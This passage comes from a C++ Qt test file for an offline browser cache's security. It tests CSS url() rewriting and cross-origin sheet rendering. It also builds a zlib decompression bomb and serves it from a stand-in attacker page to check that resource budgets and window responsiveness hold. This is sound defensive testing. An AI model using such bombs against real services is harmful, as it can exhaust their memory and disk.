    QCOMPARE(askServer(quint16(address.port()), request, client).contains("victim secret"), answered);
}

void TestOfflineSecurity::sheetReferencesNameTheWeb_data()
{
    QTest::addColumn<QByteArray>("css");
    QTest::addColumn<QByteArray>("served");
    QTest::newRow("relative") << QByteArray("a{b:url(i/x.png)}") << QByteArray("a{b:url(\"http://v.test/c/i/x.png\")}");
    QTest::newRow("quoted, spaced") << QByteArray("a{b:URL( '../x y.png' )}")
                                    << QByteArray("a{b:url(\"http://v.test/x%20y.png\")}");
    QTest::newRow("root-relative") << QByteArray("a{b:url(/x.png)}") << QByteArray("a{b:url(\"http://v.test/x.png\")}");
    QTest::newRow("import string") << QByteArray("@import 'o.css';")
                                   << QByteArray("@import \"http://v.test/c/o.css\";");
    QTest::newRow("quote in the name") << QByteArray("a{b:url(x\"y)}")
                                       << QByteArray("a{b:url(\"http://v.test/c/x%22y\")}");
    QTest::newRow("data stays") << QByteArray("a{b:url(data:image/png;base64,AA==)}")
                                << QByteArray("a{b:url(data:image/png;base64,AA==)}");
    QTest::newRow("escape stays") << QByteArray("a{b:url(x\\29.png)}") << QByteArray("a{b:url(x\\29.png)}");
    QTest::newRow("comment and string stay")
        << QByteArray("/* url(x) */a{content:\"url(y)\"}") << QByteArray("/* url(x) */a{content:\"url(y)\"}");
    QTest::newRow("cut short") << QByteArray("a{b:url('x") << QByteArray("a{b:url('x");
}

void TestOfflineSecurity::sheetReferencesNameTheWeb()
{
    QFETCH(QByteArray, css);
    QFETCH(QByteArray, served);
    QCOMPARE(AbsoluteReferences(css, QUrl(QStringLiteral("http://v.test/c/s.css"))), served);
}

// A page of bodies that decode to far more than they take in the cache, as its frames and as
// another origin's images: each is written out off the window's thread (whose timer keeps
// turning while it is), and the bodies written stay within their budget. A page that goes
// while its bodies are made leaves them unanswered, without harm.
void TestOfflineSecurity::bombsLeaveTheWindowAnswering_data()
{
    QTest::addColumn<bool>("pageGone");
    QTest::newRow("page shown") << false;
    QTest::newRow("page gone at once") << true;
}

void TestOfflineSecurity::bombsLeaveTheWindowAnswering()
{
    QFETCH(bool, pageGone);
    QTemporaryDir bodies;
    SetBodiesFolder(bodies.path().toStdString());
    constexpr qint64 kBudget = 12 << 20;
    SetBodiesLimits(kBudget, ~std::uint64_t(0));
    const QByteArray bomb = qCompress(QByteArray(8 << 20, '\0'), 9).mid(4); // a zlib stream
    QTemporaryDir store;
    QFile container(store.filePath(QStringLiteral("container")));
    QVERIFY(container.open(QIODevice::WriteOnly) && container.write(bomb) == bomb.size());
    container.close();

    std::atomic<int> turns{0}, asked{0}, started{0}, finished{0}, stalled{0};
    QTimer ticker;
    connect(&ticker, &QTimer::timeout, this, [&turns] { ++turns; });
    ticker.start(5);
    const CacheLookup others = m_cache->lookup();
    m_browser->setCacheLookup([&, others](const QByteArray &url) -> CachedLocalFile {
        if (!url.contains("/bomb"))
            return others(url);
        const BodyRef ref{container.fileName().toStdString(), 0, std::uint64_t(bomb.size()), "deflate"};
        const std::string path = PlannedBodyPath("/store", url.toStdString(), url.toStdString(), "text/html");
        CachedLocalFile later;
        ++asked;
        later.make = [&, ref, path]() -> CachedLocalFile {
            ++started;
            // The window's timer turns while this body is being made, or it never will.
            const int before = turns;
            QDeadlineTimer patience(10000);
            while (turns == before && !patience.hasExpired())
                QThread::msleep(1);
            stalled += turns == before;
            const bool ok = WriteBodyFile(ref, path).ok();
            ++finished;
            return ok ? CachedLocalFile(std::optional(path)) : CachedLocalFile(std::nullopt);
        };
        return later;
    });
    QByteArray page;
    for (int i = 0; i < 3; ++i)
        page += "<iframe src=\"bomb" + QByteArray::number(i) + ".htm\"></iframe><img src=\"http://victim.test/bomb"
            + QByteArray::number(i) + ".png\">";
    m_cache->add("http://evil.test/page.htm", page);

    QSignalSpy loaded(m_browser.get(), &Browser::loadFinished);
    QVERIFY(m_browser->Navigate(QStringLiteral("http://evil.test/page.htm")).isEmpty());
    if (pageGone) {
        QTRY_VERIFY_WITH_TIMEOUT(started > 0, kLoadTimeout);
        m_browser.reset();
    } else {
        QVERIFY(loaded.wait(kLoadTimeout));
        QCOMPARE(started.load(), 6);
    }
    QTRY_COMPARE_WITH_TIMEOUT(finished.load(), asked.load(), kLoadTimeout);
    QCOMPARE(stalled.load(), 0);
    qint64 used = 0;
    QDirIterator files(bodies.path(), QDir::Files | QDir::Hidden, QDirIterator::Subdirectories);
    while (files.hasNext())
        used += QFileInfo(files.next()).size();
    QVERIFY2(used <= kBudget, qPrintable(QString::number(used)));
    SetBodiesLimits(0, ~std::uint64_t(0));
    SetBodiesFolder({});
}

// Another origin's style sheet, offline: its relative and root-relative url() and its font
// show as they did online.
void TestOfflineSecurity::otherOriginsSheetsRenderOffline()
{
    QFile font(QStringLiteral("/usr/share/fonts/truetype/dejavu/DejaVuSans.ttf"));
    if (!font.open(QIODevice::ReadOnly))
        QSKIP("no DejaVu Sans to cache");
    QImage picture(7, 5, QImage::Format_RGB32);
    picture.fill(Qt::red);
    QByteArray png;
    QBuffer buffer(&png);
    buffer.open(QIODevice::WriteOnly);
    QVERIFY(picture.save(&buffer, "PNG"));
    m_cache->add("http://victim.test/css/img/relative.png", png);
    m_cache->add("http://victim.test/img/root.png", png);
    m_cache->add("http://victim.test/css/fonts/sans.ttf", font.readAll());
    m_cache->add("http://victim.test/css/site.css",
                 "#relative { content: url(img/relative.png) } #root { content: url(/img/root.png) }\n"
                 "@font-face { font-family: Cached; src: url(fonts/sans.ttf) }\n"
                 "#font { font-family: Cached, monospace; font-size: 40px }");
    m_cache->add("http://evil.test/page.htm",
                 "<link rel=\"stylesheet\" href=\"http://victim.test/css/site.css\"><body>"
                 "<p><span id=\"relative\"></span></p><p><span id=\"root\"></span></p>"
                 "<p><span id=\"font\">iiiiiiii</span></p>"
                 "<p><span id=\"mono\" style=\"font-family: monospace; font-size: 40px\">iiiiiiii</span></p>");
    QVERIFY(load(*m_browser, QStringLiteral("http://evil.test/page.htm")));
    auto width = [this](const char *id) {
        return evaluate(m_browser->page(),
                        QStringLiteral("document.getElementById('%1').getBoundingClientRect().width").arg(id))
            .toDouble();
    };
    QTRY_COMPARE_WITH_TIMEOUT(width("relative"), 7.0, 10000);
    QTRY_COMPARE_WITH_TIMEOUT(width("root"), 7.0, 10000);
    QTRY_VERIFY_WITH_TIMEOUT(width("font") < width("mono") * 0.7, 10000);
}

int main(int argc, char *argv[])
{
    RegisterPreviewSchemes();
    QStandardPaths::setTestModeEnabled(true);
    QApplication app(argc, argv);
    QApplication::setApplicationName(QStringLiteral("tidewrack-test"));
    TestOfflineSecurity test;
    QTEST_SET_MAIN_SOURCE_PATH
    return QTest::qExec(&test, argc, argv);
}

#include "tst_offlinesecurity.moc"
